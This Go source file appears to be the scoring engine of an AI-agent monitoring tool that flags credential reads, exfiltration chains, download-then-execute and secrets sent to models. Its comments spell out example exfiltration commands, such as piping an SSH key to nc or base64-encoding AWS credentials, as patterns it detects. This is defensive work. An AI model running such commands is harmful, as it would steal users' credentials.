package engine

import (
	"net/netip"
	"strings"
	"sync"
	"time"

	"github.com/agentwatch/agentwatch/internal/pathglob"
	"github.com/agentwatch/agentwatch/processor/agentscoreprocessor/internal/policy"
)

// Settings configure an Engine.
type Settings struct {
	Policy *policy.Policy
	// AlertThreshold: an event with a score > 0 and ≥ this is an alert.
	AlertThreshold int
	// ChainWindow is how far apart the steps of a chain may be.
	ChainWindow time.Duration
	// MaxUniqueDestinations: the next new destination fires
	// net.many_destinations.
	MaxUniqueDestinations int
	// EgressVolumeBytes: a closed connection to a destination that is not
	// allowed that sent at least this much fires net.egress_volume (0:
	// 1 MiB).
	EgressVolumeBytes int64
	// MaxSessions bounds the session LRU.
	MaxSessions int
	// SessionTTL forgets a session this long after its last event.
	SessionTTL time.Duration
	// TrackSpans keeps per-span rollups; without a traces pipeline nobody
	// reads them.
	TrackSpans bool
	// Now is the clock for TTLs and events without a timestamp.
	Now func() time.Time
}

// Engine scores events. It is safe for concurrent use; one mutex guards the
// session state, which the logs and traces pipelines of one processor share.
type Engine struct {
	pol        *policy.Policy
	threshold  int
	window     int64
	maxDests   int
	egressMin  int64
	destCap    int
	maxSess    int
	ttl        int64
	trackSpans bool
	now        func() time.Time

	mu         sync.Mutex
	sessions   map[SessionKey]*session
	head, tail *session // LRU order, head is the most recent
	evictedLRU uint64
	evictedTTL uint64
}

// New returns an engine.
func New(s Settings) *Engine {
	e := &Engine{
		pol:        s.Policy,
		threshold:  s.AlertThreshold,
		window:     int64(s.ChainWindow),
		maxDests:   s.MaxUniqueDestinations,
		egressMin:  s.EgressVolumeBytes,
		maxSess:    s.MaxSessions,
		ttl:        int64(s.SessionTTL),
		trackSpans: s.TrackSpans,
		now:        s.Now,
		sessions:   map[SessionKey]*session{},
	}
	if e.now == nil {
		e.now = time.Now
	}
	if e.maxSess <= 0 {
		e.maxSess = 1
	}
	e.destCap = max(minDestCap, 2*e.maxDests)
	if e.egressMin <= 0 {
		e.egressMin = 1 << 20
	}
	return e
}

// SetTrackSpans turns span rollups on, when a traces pipeline joins.
func (e *Engine) SetTrackSpans(on bool) {
	e.mu.Lock()
	e.trackSpans = on
	e.mu.Unlock()
}

// Policy returns the compiled policy.
func (e *Engine) Policy() *policy.Policy { return e.pol }

// Stats are gauges and counters of the session state.
type Stats struct {
	Sessions   int
	EvictedLRU uint64
	EvictedTTL uint64
}

// Stats returns the current session counts.
func (e *Engine) Stats() Stats {
	e.mu.Lock()
	defer e.mu.Unlock()
	return Stats{Sessions: len(e.sessions), EvictedLRU: e.evictedLRU, EvictedTTL: e.evictedTTL}
}

// Score scores one event, updates the session state and the rollups, and
// returns the result.
func (e *Engine) Score(ev *Event) Result {
	nowT := e.now()
	now := nowT.UnixNano()
	t := ev.Time
	if t == 0 {
		t = now
	}

	e.mu.Lock()
	defer e.mu.Unlock()
	e.expire(now)
	s := e.session(ev.Session, now)

	switch ev.Kind {
	case KindExec, KindSessionStart:
		s.learn(ev, t)
	case KindExit:
		if ev.HasPID {
			delete(s.procs, ev.PID)
			if s.pidFlow != nil {
				delete(s.pidFlow, ev.PID) // its pipes stay: a reader may exec after it ended
			}
		}
	}
	homes, cwd := e.context(s, ev)

	var rs policy.RuleSet
	switch ev.Kind {
	case KindExec:
		e.scoreExec(s, ev, t, homes, cwd, &rs)
	case KindFileOpen:
		e.scoreOpen(s, ev, t, homes, cwd, &rs)
	case KindConnect:
		e.scoreConnect(s, ev, t, &rs)
	case KindNetClose:
		e.scoreNetClose(s, ev, &rs)
	case KindDNS:
		e.scoreDNS(s, ev, t, &rs)
	case KindEnforce:
		e.scoreEnforce(s, ev, homes, cwd, &rs)
	case KindFileLink, KindFileRename, KindFileUnlink, KindFileChmod, KindFileMount:
		e.scoreChange(s, ev, t, homes, cwd, &rs)
	case KindLLMRequest:
		if ev.SecretCount > 0 {
			rs.Add(policy.RuleLLMSecretToModel)
		}
	}
	e.pol.MaskEnabled(&rs)
	res := e.result(&rs)

	s.total.add(&res)
	if e.trackSpans && ev.Span != (SpanKey{}) {
		s.addSpan(ev.Span, &res)
	}
	return res
}

// context returns the homes "~" stands for and the working directory of the
// event's process, falling back to what the session's exec events said.
func (e *Engine) context(s *session, ev *Event) (policy.Homes, string) {
	uid, hasUID, cwd := ev.UID, ev.HasUID, ev.Cwd
	envHome, userHome := ev.EnvHome, ev.UserHome
	if (!hasUID || cwd == "" || envHome == "" || userHome == "") && ev.HasPID {
		if pi, ok := s.procs[ev.PID]; ok {
			if !hasUID && pi.hasUID {
				uid, hasUID = pi.uid, true
			}
			if cwd == "" {
				cwd = pi.cwd
			}
			env, user := s.homesOf(pi.homes)
			if envHome == "" {
				envHome = env
			}
			if userHome == "" {
				userHome = user
			}
		}
	}
	if !hasUID && s.hasUID {
		uid, hasUID = s.uid, true
	}
	var homes policy.Homes
	h := e.pol.Homes()
	if hasUID {
		homes[policy.HomeOfUID] = h.Home(uid)
	}
	if s.hasUID {
		homes[policy.HomeOfSession] = h.Home(s.uid)
	}
	homes[policy.HomeEnv] = pathglob.Clean(envHome)
	homes[policy.HomeOwnRoot] = pathglob.Clean(userHome)
	if homes[policy.HomeEnv] == "/" {
		homes[policy.HomeEnv] = "" // HOME=/ would make every path "~/…"
	}
	if homes[policy.HomeOwnRoot] == "/" {
		homes[policy.HomeOwnRoot] = ""
	}
	return homes, cwd
}

func (e *Engine) result(rs *policy.RuleSet) Result {
	res := Result{Rules: *rs, Top: -1}
	rs.Each(func(i int) {
		if sc := e.pol.Rule(i).Score; sc > res.Score {
			res.Score, res.Top = sc, i
		}
	})
	res.Alert = res.Score > 0 && res.Score >= e.threshold
	return res
}

func (e *Engine) scoreExec(s *session, ev *Event, t int64, homes policy.Homes, cwd string, rs *policy.RuleSet) {
	f := e.pol.MatchExec(&policy.Exec{Exe: ev.Exe, Args: ev.Args, Cwd: cwd, Homes: homes, Program: ev.Program, Fileless: ev.Fileless}, rs)
	if e.chainStep(s, t, false, f.Stage, f.Egress) {
		rs.Add(policy.RuleChainExfiltration)
	}
	if f.Encodes {
		if _, encode := e.procStep(s, ev, t, stepEncode); encode {
			rs.Add(policy.RuleFlowEncodeSensitive)
		}
	}
	fresh := false
	for _, target := range f.ChmodTargets {
		if s.downloads.hasAtOrBefore(target, t) {
			fresh = true
		}
		s.chmods.add(target, t)
	}
	// The program a loader runs, or the image without " (deleted)".
	if exe := pathglob.Clean(policy.ExecPath(ev.Exe, ev.Program)); exe != "" && s.downloads.hasAtOrBefore(exe, t) {
		fresh = true
	}
	if fresh {
		rs.Add(policy.RuleChainDownloadExec)
	}
}

func (e *Engine) scoreOpen(s *session, ev *Event, t int64, homes policy.Homes, cwd string, rs *policy.RuleSet) {
	p := pathglob.Resolve(ev.Path, cwd, "")
	if p == "" || pathOnly(ev.Flags) {
		// An O_PATH descriptor reads nothing; a later open through
		// /proc/self/fd is reported with the real file and scored then.
		return
	}
	// The file under the name it was opened by and under the one the
	// receiver knows its inode by (a hard link, a bind mount, …).
	canon := canonicalOf(ev, p, cwd)
	sensitive := e.pol.MatchPath(p, homes, s.workdir, rs)
	if canon != "" && e.pol.MatchPath(canon, homes, s.workdir, rs) {
		sensitive = true
	}
	if e.pol.MatchProcSecrets(p, ev.PID, ev.HasPID, ev.ProcTargetPID, ev.HasProcTargetPID, rs) {
		sensitive = true
	}
	succeeded := !ev.HasResult || ev.Result >= 0
	if !succeeded {
		return
	}
	if sensitive && opensForRead(ev.Flags) {
		e.sensitiveRead(s, ev, t, rs)
	}
	if !opensForWrite(ev.Flags) {
		return
	}
	e.pol.MatchPersistence(p, homes, rs)
	if canon != "" {
		e.pol.MatchPersistence(canon, homes, rs)
	}
	if policy.IsTransferTool(ev.Exe) || e.loadedTransferTool(s, ev) {
		s.downloads.add(p, t)
		if s.chmods.hasAtOrAfter(p, t) {
			rs.Add(policy.RuleChainDownloadExec)
		}
	}
	if strings.Contains(ev.Flags, "O_CREAT") {
		s.created.add(p, t)
		if s.chmods.hasAtOrAfter(p, t) {
			rs.Add(policy.RuleFileChmodExec) // the chmod arrived first
		}
	}
}

// loadedTransferTool reports whether the event's process is a loader that
// runs a transfer tool (its opens name the loader as the executable).
func (e *Engine) loadedTransferTool(s *session, ev *Event) bool {
	if !ev.HasPID {
		return false
	}
	pi, ok := s.procs[ev.PID]
	return ok && pi.transfer
}

// canonicalOf returns the event's canonical path resolved, or "" when it
// has none or it is p.
func canonicalOf(ev *Event, p, cwd string) string {
	if ev.CanonicalPath == "" {
		return ""
	}
	if c := pathglob.Resolve(ev.CanonicalPath, cwd, ""); c != p {
		return c
	}
	return ""
}

// sensitiveRead records a successful sensitive read as a chain step of the
// session and of its process or flow, and adds the chains it completes.
func (e *Engine) sensitiveRead(s *session, ev *Event, t int64, rs *policy.RuleSet) {
	chain := e.chainStep(s, t, true, false, false)
	inProc, encoded := e.procStep(s, ev, t, stepRead)
	if chain || inProc {
		rs.Add(policy.RuleChainExfiltration)
	}
	if encoded {
		rs.Add(policy.RuleFlowEncodeSensitive)
	}
}

// scoreChange scores a link, rename, unlink, chmod or mount. One that
// failed (agent.file.result < 0) changed nothing and is not scored.
func (e *Engine) scoreChange(s *session, ev *Event, t int64, homes policy.Homes, cwd string, rs *policy.RuleSet) {
	if ev.HasResult && ev.Result < 0 {
		return
	}
	src := pathglob.Resolve(ev.Path, cwd, "")
	canon := canonicalOf(ev, src, cwd)
	switch ev.Kind {
	case KindFileLink, KindFileRename, KindFileMount:
		dst := ev.NewPath
		if ev.Kind == KindFileMount {
			dst = ev.MountPoint
		}
		dst = pathglob.Resolve(dst, cwd, "")
		// A link, a rename and a bind mount give the source another name;
		// the source of any other mount is a device or a filesystem name.
		if ev.Kind != KindFileMount || policy.IsBindMount(ev.MountFlags) {
			sensitive := src != "" && e.pol.MatchPathTree(src, homes, s.workdir, rs)
			if canon != "" && e.pol.MatchPathTree(canon, homes, s.workdir, rs) {
				sensitive = true
			}
			if sensitive {
				rs.Add(policy.RuleFileSensitiveAlias)
			}
			if ev.Kind != KindFileMount && dst != "" {
				s.carryFresh(src, canon, dst, t)
			}
		}
		// The name it gets: a credential replaced, a mount onto ~/.ssh, a
		// script renamed into a persistence location.
		if dst != "" {
			e.pol.MatchPathTree(dst, homes, s.workdir, rs)
			e.pol.MatchPersistenceTree(dst, homes, rs)
		}
	case KindFileUnlink, KindFileChmod:
		if e.sensitiveOrPersistent(s, src, homes) || e.sensitiveOrPersistent(s, canon, homes) {
			rs.Add(policy.RuleFileSensitiveChange)
		}
		if ev.Kind == KindFileChmod && ev.HasMode && policy.ModeAddsExec(ev.Mode) && src != "" {
			e.chmodExec(s, src, canon, t, rs)
		}
	}
}

func (e *Engine) sensitiveOrPersistent(s *session, p string, homes policy.Homes) bool {
	if p == "" {
		return false
	}
	var scratch policy.RuleSet
	return e.pol.MatchPath(p, homes, s.workdir, &scratch) || e.pol.IsPersistence(p, homes)
}

// chmodExec scores a chmod syscall that sets an execute bit: of a fresh
// download it is chain.download_exec, of a file the session created
// file.chmod_exec. Like a chmod command's targets it is remembered, so a
// later run of the file (or a download write that arrives late) completes
// chain.download_exec.
func (e *Engine) chmodExec(s *session, src, canon string, t int64, rs *policy.RuleSet) {
	downloaded := s.downloads.hasAtOrBefore(src, t) || canon != "" && s.downloads.hasAtOrBefore(canon, t)
	created := s.created.hasAtOrBefore(src, t) || canon != "" && s.created.hasAtOrBefore(canon, t)
	s.chmods.add(src, t)
	if downloaded {
		rs.Add(policy.RuleChainDownloadExec)
	}
	if created {
		rs.Add(policy.RuleFileChmodExec)
	}
}

func pathOnly(flags string) bool { return strings.Contains(flags, "O_PATH") }

func opensForRead(flags string) bool { return !strings.Contains(flags, "O_WRONLY") }

func opensForWrite(flags string) bool {
	return strings.Contains(flags, "O_WRONLY") || strings.Contains(flags, "O_RDWR") || strings.Contains(flags, "O_CREAT")
}

// dnsPorts carry DNS; a connect to a system resolver on them is the
// resolver library at work, not a destination.
func dnsPort(port int64) bool { return port == 53 || port == 853 }

func (e *Engine) scoreConnect(s *session, ev *Event, t int64, rs *policy.RuleSet) {
	addr, err := netip.ParseAddr(ev.PeerAddr)
	if err != nil {
		return // AF_UNIX or unparsable: nothing to score
	}
	addr = addr.WithZone("").Unmap()
	if dnsPort(ev.Port) && e.pol.IsSystemResolver(addr) {
		return
	}
	if ev.Port == 0 && ev.HasPort {
		// Nothing can be sent to port 0: a UDP connect there is source
		// address selection (getaddrinfo's AI_ADDRCONFIG, happy eyeballs).
		return
	}
	name := policy.NormalizeName(ev.ServerAddr)
	if maybeAddr(name) {
		if _, err := netip.ParseAddr(name); err == nil {
			name = "" // an address literal names nothing
		}
	}
	recorded, resolvedHere := s.dnsIPs[addr]
	if name == "" {
		name = recorded
	}
	allowed := e.pol.MatchConnect(&policy.Connect{Addr: addr, Port: int(ev.Port), Name: name}, rs)
	if !allowed {
		resolved := resolvedHere || ev.ServerAddr != "" && name != ""
		if ev.PeerResolved >= 0 {
			resolved = ev.PeerResolved == 1
		}
		if !resolved {
			rs.Add(policy.RuleNetUnresolvedIP)
		}
		chain := e.chainStep(s, t, false, false, true)
		if inProc, _ := e.procStep(s, ev, t, stepEgress); chain || inProc {
			rs.Add(policy.RuleChainExfiltration)
		}
	}
	key := destKey{name: name}
	if name == "" {
		key.addr = addr
	}
	if _, seen := s.dests[key]; !seen {
		if len(s.dests) < e.destCap {
			s.dests[key] = struct{}{}
		}
		s.uniqueDests++
		if s.uniqueDests > e.maxDests {
			rs.Add(policy.RuleNetManyDestinations)
		}
	}
}

// scoreNetClose scores what a closed connection carried out. Its connect
// was scored when it was made (destination, port, unresolved IP, chains);
// the close adds only the volume: at least egressMin bytes sent to a
// destination that is not allowed.
func (e *Engine) scoreNetClose(s *session, ev *Event, rs *policy.RuleSet) {
	if !ev.HasSentBytes || ev.SentBytes < e.egressMin {
		return
	}
	addr, err := netip.ParseAddr(ev.PeerAddr)
	if err != nil {
		return
	}
	addr = addr.WithZone("").Unmap()
	name := policy.NormalizeName(ev.ServerAddr)
	if maybeAddr(name) {
		if _, err := netip.ParseAddr(name); err == nil {
			name = ""
		}
	}
	if name == "" {
		name = s.dnsIPs[addr]
	}
	if !e.pol.Allowed(name, addr) {
		rs.Add(policy.RuleNetEgressVolume)
	}
}

func (e *Engine) scoreDNS(s *session, ev *Event, t int64, rs *policy.RuleSet) {
	name := policy.NormalizeName(ev.DNSName)
	for _, a := range ev.DNSAnswers {
		if name == "" || !maybeAddr(a) {
			continue // CNAME targets and the like
		}
		addr, err := netip.ParseAddr(a)
		if err != nil {
			continue
		}
		addr = addr.WithZone("").Unmap()
		old, ok := s.dnsIPs[addr]
		switch {
		case ok && old == name:
		case !ok && len(s.dnsIPs) >= maxDNSAddrs:
		default:
			s.dnsIPs[addr] = strings.Clone(name)
		}
	}
	var resolver netip.Addr
	if a, err := netip.ParseAddr(ev.Resolver); err == nil {
		resolver = a.WithZone("").Unmap()
	}
	if ev.ResolverIsSystem == 1 {
		// The receiver read the resolv.conf under the process's own root:
		// a sandbox's own resolver is its system's.
		resolver = netip.Addr{}
	}
	if e.pol.MatchDNS(name, resolver, rs) {
		chain := e.chainStep(s, t, false, false, true)
		if inProc, _ := e.procStep(s, ev, t, stepEgress); chain || inProc {
			rs.Add(policy.RuleChainExfiltration)
		}
	}
}

// maybeAddr is a cheap filter before netip.ParseAddr, whose error for a
// name allocates: an address starts with a digit or contains a colon.
func maybeAddr(s string) bool {
	return s != "" && (s[0] >= '0' && s[0] <= '9' || strings.IndexByte(s, ':') >= 0)
}

// deniedActions are the enforcement actions that block the operation.
var deniedActions = map[string]bool{"deny": true, "denied": true, "block": true, "blocked": true, "kill": true, "killed": true}

func (e *Engine) scoreEnforce(s *session, ev *Event, homes policy.Homes, cwd string, rs *policy.RuleSet) {
	action := strings.ToLower(ev.EnforceAction)
	switch {
	case deniedActions[action]:
		rs.Add(policy.RuleEnforceDenied)
	case action != "":
		rs.Add(policy.RuleEnforceAction)
	}
	// What was attempted is scored as if it had happened, without feeding
	// the chains: a denied read read nothing.
	if ev.Path != "" {
		if p := pathglob.Resolve(ev.Path, cwd, ""); p != "" {
			e.pol.MatchPath(p, homes, s.workdir, rs)
			if c := canonicalOf(ev, p, cwd); c != "" {
				e.pol.MatchPath(c, homes, s.workdir, rs)
			}
			e.pol.MatchProcSecrets(p, ev.PID, ev.HasPID, ev.ProcTargetPID, ev.HasProcTargetPID, rs)
		}
	}
	if addr, err := netip.ParseAddr(ev.PeerAddr); err == nil {
		e.pol.MatchConnect(&policy.Connect{Addr: addr.WithZone("").Unmap(), Port: int(ev.Port), Name: policy.NormalizeName(ev.ServerAddr)}, rs)
	}
}

// stepKind is what procStep records.
type stepKind uint8

const (
	stepRead   stepKind = iota // a successful sensitive read
	stepEgress                 // a send to a destination that is not allowed
	stepEncode                 // an encoder or archiver run
)

// procStep records a step of the event's process — of its flow when it is
// in a pipeline — and reports what it completes with the steps already
// there, within the window and in either order:
//
//   - inProc: a sensitive read and an egress. One process that reads a
//     credential and sends to a destination that is not allowed needs no
//     staging step to exfiltrate it (python urllib, bash /dev/tcp, sendfile
//     into a socket, git push of a key it added), nor does a pipeline
//     (cat ~/.ssh/id | nc host port). Both orders, since a client may
//     connect before it reads what it sends.
//   - encoded: a sensitive read and an encoder run in one flow
//     (cat ~/.aws/credentials | base64); the processes of a pipeline start
//     in any order.
func (e *Engine) procStep(s *session, ev *Event, t int64, k stepKind) (inProc, encoded bool) {
	if !ev.HasPID {
		return false, false
	}
	if f, ok := s.pidFlow[ev.PID]; ok {
		fs, found := s.flowSteps[f]
		if !found && len(s.flowSteps) >= maxProcs {
			clear(s.flowSteps) // only the chains inside flows lose their memory
		}
		inProc, encoded = e.record(&fs.procSteps, &fs.encode, t, k)
		s.flowSteps[f] = fs
		return inProc, encoded
	}
	if k == stepEncode {
		return false, false // an encoder outside a pipeline encodes what its argv says
	}
	ps, found := s.procSteps[ev.PID]
	if !found && len(s.procSteps) >= maxProcs {
		clear(s.procSteps) // only the chain inside one process loses its memory
	}
	inProc, _ = e.record(&ps, nil, t, k)
	s.procSteps[ev.PID] = ps
	return inProc, false
}

// record adds step k at t to ps (and encode, for a flow) and reports the
// pairs it completes.
func (e *Engine) record(ps *procSteps, encode *int64, t int64, k stepKind) (inProc, encoded bool) {
	switch k {
	case stepRead:
		inProc = e.near(ps.egress, t)
		encoded = encode != nil && e.near(*encode, t)
		ps.read = max(ps.read, t)
	case stepEgress:
		inProc = e.near(ps.read, t)
		ps.egress = max(ps.egress, t)
	case stepEncode:
		encoded = e.near(ps.read, t)
		*encode = max(*encode, t)
	}
	return inProc, encoded
}

// near reports whether a recorded step (0: none) lies within the window of t.
func (e *Engine) near(step, t int64) bool {
	d := t - step
	if d < 0 {
		d = -d
	}
	return step != 0 && d <= e.window
}

// chainStep records the steps one event is and reports whether it completes
// a chain: a sensitive read and a staging step, each no later than an
// egress and at most the window before it. Timestamps, not arrival order,
// decide, so a step that arrives late still completes the chain, and the
// event that completes it is the one that carries the chain rule. The read
// and the staging step may come in either order, since an encoder reads the
// file after it starts.
func (e *Engine) chainStep(s *session, t int64, read, stage, egress bool) bool {
	if read {
		s.reads.add(t)
	}
	if stage {
		s.stages.add(t)
	}
	if egress {
		s.egress.add(t)
	}
	w := e.window
	if egress && s.reads.anyIn(t-w, t) && s.stages.anyIn(t-w, t) {
		return true
	}
	if read || stage {
		other := &s.stages
		if stage {
			other = &s.reads
		}
		// A later egress within the window, with the other step before it.
		for i := 0; i < s.egress.n; i++ {
			eg := s.egress.t[i]
			if eg >= t && eg-t <= w && other.anyIn(eg-w, eg) {
				return true
			}
		}
	}
	return false
}

// SpanRollup returns the rollup of a process span and forgets it: the span
// is exported once, when the process ends.
func (e *Engine) SpanRollup(k SessionKey, span SpanKey) Rollup {
	e.mu.Lock()
	defer e.mu.Unlock()
	s := e.sessions[k]
	if s == nil {
		return Rollup{}
	}
	r := s.spans[span]
	delete(s.spans, span)
	return r
}

// SessionRollup returns the rollup of a whole session.
func (e *Engine) SessionRollup(k SessionKey) Rollup {
	e.mu.Lock()
	defer e.mu.Unlock()
	if s := e.sessions[k]; s != nil {
		return s.total
	}
	return Rollup{}
}
